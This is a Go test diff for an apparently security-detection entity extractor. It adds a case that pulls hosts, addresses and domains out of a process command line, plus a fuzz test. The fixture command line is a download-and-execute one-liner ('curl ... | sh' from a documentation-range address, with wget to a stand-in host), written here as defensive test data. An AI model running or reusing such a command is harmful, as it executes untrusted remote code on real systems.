@@ -63,6 +63,9 @@ func TestOf(t *testing.T) {
 		{"cloud", event(vedette.Logsource{Product: "aws"}, "user.name", "arn:aws:iam::1:user/bob",
 			"source.ip", "203.0.113.9", "cloud.account.id", "123456789012"),
 			"address:203.0.113.9:actor user:bob:actor cloud_account:123456789012:target"},
+		{"addresses in a command line", event(vedette.Logsource{Product: "linux"}, "host.name", "db-02", "process.command_line",
+			"sh -c 'curl -s http://u:p@198.51.100.23:8080/kit | sh; wget https://Kit.Example/x ftp://10.0.0.5 http://localhost/ http://[2001:db8::5]:80/'"),
+			"host:db-02:target address:198.51.100.23:object domain:kit.example:object address:10.0.0.5:target address:2001:db8::5:object"},
 		{"dns", event(vedette.Logsource{Categories: []string{"dns"}}, "host.name", "ns1", "source.ip", "10.0.0.5",
 			"dns.question.name", "Evil.Example."),
 			"address:10.0.0.5:actor domain:evil.example:object"},
@@ -172,6 +175,29 @@ func TestDirectory(t *testing.T) {
 	if d.Host(vedette.DefaultTenant, a) != "" || d.Host("t", c) != "db-02" {
 		t.Error("the oldest address should be forgotten and the newest known")
 	}
+}
+
+func FuzzOf(f *testing.F) {
+	f.Add("WEB-01.corp.example", "203.0.113.9:22", `CORP\Alice`, "curl http://198.51.100.7/x")
+	f.Add("\xff", "::ffff:1.2.3.4", "a@", "x://[::1")
+	f.Fuzz(func(t *testing.T, host, address, user, command string) {
+		ev := event(vedette.Logsource{Product: "linux"}, "host.name", host, "host.ip", address, "source.ip", address,
+			"user.name", user, "process.command_line", command, "url.domain", host, "file.path", command)
+		refs := entity.Of(ev)
+		if len(refs) > entity.MaxRefs {
+			t.Errorf("%d entities", len(refs))
+		}
+		for i, r := range refs {
+			if r.Name == "" || len(r.Name) > 256 {
+				t.Errorf("a name of %d bytes", len(r.Name))
+			}
+			for _, other := range refs[:i] {
+				if other.Kind == r.Kind && other.Name == r.Name {
+					t.Errorf("%s %s is listed twice", r.Kind, r.Name)
+				}
+			}
+		}
+	})
 }
 
 func BenchmarkOf(b *testing.B) {
